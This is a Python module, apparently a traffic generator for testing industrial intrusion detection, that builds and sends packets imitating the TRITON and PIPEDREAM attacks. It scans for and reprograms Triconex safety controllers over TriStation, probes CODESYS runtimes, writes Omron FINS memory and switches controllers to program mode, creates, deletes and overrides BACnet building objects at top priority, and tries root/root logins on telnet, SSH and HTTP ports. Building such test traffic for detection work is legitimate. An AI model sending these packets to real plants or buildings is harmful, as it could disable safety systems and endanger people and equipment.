"""Controllers and buildings by datagrams: TRITON's TriStation, PIPEDREAM's CODESYS and FINS, BACnet objects."""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING, Final

from interlock.plant.protocols.tristation import (
    ALLOCATE_PROGRAM,
    CONNECT,
    CP_STATUS,
    RUN_PROGRAM,
    command,
    envelope,
)
from proving.clients.talk import Talk, tell

if TYPE_CHECKING:
    from collections.abc import Callable

_TRISTATION: Final = 1502
_CODESYS: Final = 1740
_BACNET: Final = 47808


def tristation_found(to: str) -> None:
    """Connection requests to everybody of the network, then to each address of some."""
    net = to.rpartition(".")[0]
    for host in (255, *range(8, 40)):
        tell(f"{net}.{host}", _TRISTATION, envelope(CONNECT), pause_s=0.05)


def tristation_programmed(to: str) -> None:
    """Status, a program allocated, appended and run."""
    body = [command(CP_STATUS, 1), command(ALLOCATE_PROGRAM, 2, struct.pack("<IHH", 0, 1, 2))]
    body += [command(1, number, struct.pack("<HHHH", 1, number, 0, 64) + bytes(64)) for number in (3, 4, 5)]
    tell(to, _TRISTATION, envelope(CONNECT), *body, command(RUN_PROGRAM, 6))


def codesys_found(to: str) -> None:
    """Who runs the runtime: asked of everybody at its four ports."""
    asked = bytes.fromhex("c5 6b 40 40 00 02 c2 00 04 04 00 00 00 00 00 00 c2 00 04 00 01 23 45 67")
    for port in range(4):
        tell(to, _CODESYS + port, asked, asked)


def fins(to: str) -> None:
    """FINS: controller data read, memory written, mode changed to program."""
    head = bytes.fromhex("800002000000000001 00".replace(" ", ""))[:9]
    words = ("050100", "0101820000000010", "010282000000000200640064", "0401ffff00", "0402")
    tell(to, 9600, *(head + bytes((number,)) + bytes.fromhex(w) for number, w in enumerate(words)))


def bacnet_objects(to: str) -> None:
    """Objects created and deleted, and every output written at the highest priority."""
    value = bytes.fromhex("91553e91013f3901")
    rows = [
        bytes((0, 4, number, 15)) + b"\x0c" + struct.pack("!I", 4 << 22 | number) + value
        for number in range(6)
    ]
    rows.append(bytes((0, 4, 20, 10)) + b"\x0e\x09\x02\x0f")
    rows.append(bytes((0, 4, 21, 11)) + b"\xc4" + struct.pack("!I", 2 << 22 | 1))
    tell(to, _BACNET, *(b"\x81\x0a" + struct.pack("!H", len(row) + 6) + b"\x01\x04" + row for row in rows))


def telnet_guessed(to: str) -> None:
    """Delivered passwords tried at the terminals of a machine."""
    for port in (23, 22, 80):
        for _ in range(6):
            with Talk(to, port, 0.3) as talk:
                talk.say(b"root\r\nroot\r\n", 0.1)


CLIENTS: Final[dict[str, Callable[[str], None]]] = {
    "tristation-found": tristation_found,
    "tristation-programmed": tristation_programmed,
    "codesys-found": codesys_found,
    "fins": fins,
    "bac-objects": bacnet_objects,
    "doors-tried": telnet_guessed,
}
